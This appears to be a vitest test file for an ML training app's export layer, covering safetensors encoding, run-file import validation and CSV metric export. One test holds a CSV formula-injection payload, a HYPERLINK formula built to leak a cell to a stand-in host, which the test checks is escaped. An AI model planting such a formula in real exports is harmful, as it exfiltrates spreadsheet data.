// Run files, safetensors and CSV: round trips, and untrusted input refused with field paths.
import { describe, expect, test } from 'vitest';
import { decodeSafetensors, encodeSafetensors } from '../src/export/safetensors';
import {
  checkpointFromSafetensors,
  checkpointToSafetensors,
  csvCell,
  metricsCsv,
  readRunFile,
  writeRunFile,
  type PortableRun,
} from '../src/export/runFile';
import { checkCheckpoint, checkRunCheckpoint, checkRunRecord, type RunRecord } from '../src/export/runRecord';
import { TRANSFORMER_OPTION_DEFAULTS, datasetDefaults, defaultSpec } from '../src/experiment';
import type { EpochMetrics, TrainingCheckpoint } from '../src/engine/types';

function epoch(n: number): EpochMetrics {
  return {
    epoch: n,
    step: n * 10,
    batchLosses: [0.5 / n, 0.4 / n],
    trainLoss: 0.45 / n,
    valLoss: 0.5 / n,
    trainAccuracy: 0.8,
    valAccuracy: 0.75,
    valExactMatch: null,
    trainEvaluated: 400,
    ms: 12.5,
    examplesPerSec: 3000,
    gflop: 0.001,
    gflopPerSec: 0.08,
    cumulativeGflop: 0.001 * n,
    cumulativeMs: 12.5 * n,
    learningRate: 0.01,
    layers: [{ name: 'dense 1', weightNorm: 1.5, gradNorm: 0.1 }],
    numTensors: 20,
    tensorBytes: 4000,
    gpuBytes: null,
    gpuBytesAllocated: null,
  };
}

function run(id: number, name = `Run ${id}, "quoted"`): RunRecord {
  return {
    id,
    name,
    color: '#1f77b4',
    spec: defaultSpec(),
    phase: 'completed',
    message: null,
    backend: { active: 'wasm', fallbacks: [] },
    epochs: [epoch(1), epoch(2)],
    views: {},
    samples: [],
    visible: true,
    model: null,
    test: null,
  };
}

function checkpoint(): TrainingCheckpoint {
  return {
    epoch: 2,
    step: 20,
    weights: [
      { name: 'layers.0.weight', shape: [2, 3], values: Float32Array.from([1, -2, 3.5, 1e-30, -0, 7]) },
      { name: 'layers.0.bias', shape: [3], values: Float32Array.from([0.1, 0.2, 0.3]) },
    ],
    optimizer: {
      kind: 'adam',
      slots: [{ name: 'm.layers.0.weight', shape: [2, 3], values: new Float32Array(6).fill(0.25) }],
    },
    rng: { shuffle: { state: 123456789, spareNormal: null }, dropout: { state: 42, spareNormal: -0.5 } },
    best: { loss: null, epoch: 0 },
    cumulativeGflop: 0.002,
    cumulativeMs: 25,
    startLoss: 0.69,
  };
}

describe('safetensors', () => {
  test('round-trips names, shapes, values and metadata, with the data 8-byte aligned', () => {
    const cp = checkpoint();
    const bytes = encodeSafetensors(cp.weights, { spec: 'x' });
    const headerLength = Number(new DataView(bytes.buffer).getBigUint64(0, true));
    expect((8 + headerLength) % 8).toBe(0);
    const back = decodeSafetensors(bytes);
    expect(back.metadata).toEqual({ spec: 'x' });
    expect(back.tensors).toEqual(cp.weights);
  });

  test('a damaged file is refused with what is wrong', () => {
    const bytes = encodeSafetensors(checkpoint().weights);
    expect(() => decodeSafetensors(bytes.subarray(0, 5))).toThrow('shorter than its 8-byte header length');
    expect(() => decodeSafetensors(bytes.subarray(0, bytes.length - 4))).toThrow(
      /layers.0.bias.data_offsets .* run past the data/,
    );
    const wrongType = new TextEncoder().encode(
      JSON.stringify({ w: { dtype: 'F16', shape: [1], data_offsets: [0, 2] } }),
    );
    const file = new Uint8Array(8 + wrongType.length + 2);
    new DataView(file.buffer).setBigUint64(0, BigInt(wrongType.length), true);
    file.set(wrongType, 8);
    expect(() => decodeSafetensors(file)).toThrow('w has dtype "F16"; only F32 (float32) is supported');
  });

  test('a checkpoint travels as one safetensors blob, optimizer state included', () => {
    const back = checkpointFromSafetensors(checkpointToSafetensors(checkpoint()), 'cp');
    expect(back).toEqual({ ok: true, checkpoint: checkpoint() });
  });
});

describe('run files', () => {
  test('export then import gives the same runs, figures and checkpoint', () => {
    const scored = { ...run(2), test: { epoch: 2, examples: 40, loss: 0.31, accuracy: 0.925, exactMatch: null } };
    const runs: PortableRun[] = [
      { run: run(1), checkpoint: checkpoint() },
      { run: scored, checkpoint: null },
    ];
    const back = readRunFile(writeRunFile(runs));
    expect(back).toEqual({ ok: true, runs });
  });

  test('a wrong, newer or damaged file names what is wrong', () => {
    expect(readRunFile('{not json')).toEqual({
      ok: false,
      errors: [{ field: 'file', message: 'is not JSON, so it is not a run file' }],
    });
    expect(readRunFile('{"hello": 1}')).toMatchObject({ ok: false, errors: [{ field: 'format' }] });
    const file = JSON.parse(writeRunFile([{ run: run(1), checkpoint: null }]));
    expect(readRunFile(JSON.stringify({ ...file, version: 2 }))).toMatchObject({
      ok: false,
      errors: [{ field: 'version', message: 'is 2, newer than this app reads (1); update the app' }],
    });
    file.runs[0].epochs[1].valLoss = 'x';
    file.runs[0].spec.training.batchSize = 0;
    const result = readRunFile(JSON.stringify(file));
    expect(result.ok).toBe(false);
    expect(!result.ok && result.errors.map((e) => e.field)).toEqual([
      'runs[0].spec.training.batchSize',
      'runs[0].epochs[1].valLoss',
    ]);
  });

  test('a checkpoint whose tensor bytes were cut is refused, naming the run', () => {
    const file = JSON.parse(writeRunFile([{ run: run(1), checkpoint: checkpoint() }]));
    file.runs[0].checkpoint = file.runs[0].checkpoint.slice(0, -12);
    const result = readRunFile(JSON.stringify(file));
    expect(!result.ok && result.errors[0].field).toBe('runs[0].checkpoint');
  });

  test('CSV has one row per run and epoch, with names quoted', () => {
    const csv = metricsCsv([run(1), run(2, 'plain')]);
    const lines = csv.trim().split('\n');
    expect(lines[0]).toBe(
      'run,name,epoch,step,trainLoss,valLoss,trainAccuracy,valAccuracy,valExactMatch,valBitsPerByte,learningRate,ms,examplesPerSec,gflop,cumulativeGflop,cumulativeMs',
    );
    expect(lines).toHaveLength(5);
    expect(lines[1]).toBe('1,"Run 1, ""quoted""",1,10,0.45,0.5,0.8,0.75,,,0.01,12.5,3000,0.001,0.001,12.5');
    expect(lines[4].startsWith('2,plain,2,20,')).toBe(true);
  });

  test('a name a spreadsheet would run as a formula is written as text; numbers stay numbers', () => {
    const names = ['=HYPERLINK("http://example.com/?leak="&A1,"click")', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx'];
    const csv = metricsCsv(names.map((name, i) => run(i + 1, name)));
    const written = [
      `"'=HYPERLINK(""http://example.com/?leak=""&A1,""click"")"`,
      "'+1",
      "'-2+3",
      "'@SUM(A1)",
      "'\tx",
      `"'\rx"`,
    ];
    // Each run's first epoch row: its id, its name as written, then epoch 1 at step 10.
    written.forEach((cell, i) => expect(csv).toContain(`\n${i + 1},${cell},1,10,`));
    expect(csvCell(-0.5)).toBe('-0.5');
  });
});

describe('a checkpoint must be able to continue its run (one rule for stored runs and imported files)', () => {
  test('a weight that is not a finite number is refused, naming the tensor', () => {
    const cp = checkpoint();
    cp.weights[1].values[2] = NaN;
    expect(checkCheckpoint(cp)).toEqual({
      ok: false,
      errors: [
        {
          field: 'checkpoint.weights',
          message: 'weights[1] (layers.0.bias) holds a value that is not a finite number',
        },
      ],
    });
    const file = readRunFile(writeRunFile([{ run: run(1), checkpoint: cp }]));
    expect(!file.ok && file.errors.map((e) => e.field)).toEqual(['runs[0].checkpoint.weights']);
  });

  test('a checkpoint past the run’s figures, or for another optimizer, is refused at import', () => {
    const ahead = { ...checkpoint(), epoch: 10 };
    expect(checkRunCheckpoint(run(1), ahead)).toEqual([
      {
        field: 'checkpoint.epoch',
        message: "is 10, past the run's last epoch (2): its figures and its model disagree",
      },
    ]);
    const file = readRunFile(writeRunFile([{ run: run(1), checkpoint: ahead }]));
    expect(!file.ok && file.errors.map((e) => e.field)).toEqual(['runs[0].checkpoint.epoch']);
    const other = { ...checkpoint(), optimizer: { kind: 'sgd' as const, slots: [] } };
    expect(checkRunCheckpoint(run(1), other).map((e) => e.field)).toEqual(['checkpoint.optimizer']);
    // Loaded weights (epoch 0) and the last epoch's model are both fine.
    expect(checkRunCheckpoint({ ...run(1), epochs: [] }, { ...checkpoint(), epoch: 0 })).toEqual([]);
    expect(checkRunCheckpoint(run(1), checkpoint())).toEqual([]);
  });
});

describe("a byte-pair run's merges travel with its checkpoint", () => {
  const bpeRun = (vocabSize: number): RunRecord => {
    const r = run(1);
    const dataset = { ...r.spec.dataset, kind: 'names' as const, ...datasetDefaults('names') };
    r.spec = {
      ...r.spec,
      dataset: { ...dataset, tokenizer: { kind: 'bpe', vocabSize } },
      model: { ...TRANSFORMER_OPTION_DEFAULTS, kind: 'transformer', layers: 1, dModel: 8, heads: 2, dropout: 0 },
    };
    return r;
  };
  // Merge 1 joins bytes "t" and "h"; merge 2 joins that token (256) and "e".
  const merges = Int32Array.from([0x74, 0x68, 256, 0x65]);

  test('through a run file, as they were', () => {
    const runs: PortableRun[] = [{ run: bpeRun(300), checkpoint: { ...checkpoint(), merges } }];
    const back = readRunFile(writeRunFile(runs));
    expect(back).toEqual({ ok: true, runs });
    expect(back.ok && back.runs[0].checkpoint?.merges).toBeInstanceOf(Int32Array);
  });

  test('merges that join a token not yet made, that overflow the vocabulary, or on a character run are refused', () => {
    const early = { ...checkpoint(), merges: Int32Array.from([0x74, 257]) };
    expect(checkCheckpoint(early)).toEqual({
      ok: false,
      errors: [{ field: 'checkpoint.merges', message: 'merge 1 joins token 257, which is not made before it' }],
    });
    expect(checkCheckpoint({ ...checkpoint(), merges: 'th' })).toEqual({
      ok: false,
      errors: [{ field: 'checkpoint.merges', message: 'must be a list of token ids, in pairs' }],
    });
    const withMerges = { ...checkpoint(), merges };
    expect(checkRunCheckpoint(bpeRun(257), withMerges)).toEqual([
      { field: 'checkpoint.merges', message: "make 258 tokens, more than the run's vocabulary of 257" },
    ]);
    expect(checkRunCheckpoint(run(1), withMerges)).toEqual([
      { field: 'checkpoint.merges', message: 'are byte pairs, but the run reads characters' },
    ]);
    expect(checkRunCheckpoint(bpeRun(258), withMerges)).toEqual([]);
    const file = readRunFile(writeRunFile([{ run: bpeRun(257), checkpoint: withMerges }]));
    expect(!file.ok && file.errors.map((e) => e.field)).toEqual(['runs[0].checkpoint.merges']);
  });
});

describe('stored run records are untrusted', () => {
  test.each([
    ['an empty spec', { spec: {} }, 'run.spec.version'],
    ['a spec that is not an object', { spec: 'x' }, 'run.spec'],
    ['epochs that are not a list', { epochs: 'x' }, 'run.epochs'],
    ['an epoch out of order', { epochs: [epoch(2)] }, 'run.epochs[0].epoch'],
    ['an unknown phase', { phase: 'dancing' }, 'run.phase'],
  ])('%s is refused', (_, change, field) => {
    const result = checkRunRecord({ ...run(1), ...change });
    expect(result.ok).toBe(false);
    expect(!result.ok && result.errors[0].field).toBe(field);
  });

  test('an epoch’s compiled-step dispatches are kept when they are a number, refused otherwise, and may be absent', () => {
    const withDispatches = { ...run(1), epochs: [{ ...epoch(1), compiledDispatchesPerStep: 8 }] };
    const kept = checkRunRecord(withDispatches);
    expect(kept.ok && kept.run.epochs[0].compiledDispatchesPerStep).toBe(8);
    const bad = checkRunRecord({ ...run(1), epochs: [{ ...epoch(1), compiledDispatchesPerStep: 'eight' }] });
    expect(!bad.ok && bad.errors[0].field).toBe('run.epochs[0].compiledDispatchesPerStep');
    const absent = checkRunRecord(run(1));
    expect(absent.ok && 'compiledDispatchesPerStep' in absent.run.epochs[0]).toBe(false);
  });

  test('unknown fields are dropped and a damaged view is left out, not trusted', () => {
    const result = checkRunRecord({
      ...run(1),
      extra: 'x'.repeat(1000),
      views: { boundary: { resolution: 4, values: new Float32Array(3) } },
    });
    expect(result.ok && result.run).toEqual(run(1));
  });

  test('what a byte-pair vocabulary learned is kept with the run; a damaged or oversized one is left out', () => {
    const tokens = {
      vocabSize: 300,
      merges: 44,
      tokensPerChar: 0.6,
      vocabulary: [
        { text: ' the', bytes: '20 74 68 65', count: 120, rank: 7 },
        { text: 'e', bytes: '65', count: 90, rank: null },
      ],
      excerpt: [
        { text: 'The', id: 290 },
        { text: ' ', id: 32 },
      ],
    };
    const kept = checkRunRecord({ ...run(1), views: { tokens } });
    expect(kept.ok && kept.run.views.tokens).toEqual(tokens);
    const many = { ...tokens, excerpt: Array.from({ length: 10_000 }, () => tokens.excerpt[0]) };
    for (const damaged of [{ ...tokens, merges: 1.5 }, { ...tokens, vocabulary: [{ text: 5 }] }, many, 'x']) {
      const result = checkRunRecord({ ...run(1), views: { tokens: damaged } });
      expect(result.ok && result.run).toEqual(run(1));
    }
  });

  test("loaded weights' figures are kept; damaged ones are left out and the run stays", () => {
    const asLoaded = { trainLoss: 0.5, valLoss: 0.6, trainAccuracy: 0.8, valAccuracy: null, valExactMatch: null };
    const kept = checkRunRecord({ ...run(1), epochs: [], asLoaded });
    expect(kept.ok && kept.run.asLoaded).toEqual(asLoaded);
    for (const damaged of [{ ...asLoaded, valLoss: NaN }, { trainLoss: 1 }, 'x', null]) {
      const result = checkRunRecord({ ...run(1), asLoaded: damaged });
      expect(result.ok && result.run).toEqual(run(1));
    }
  });
});
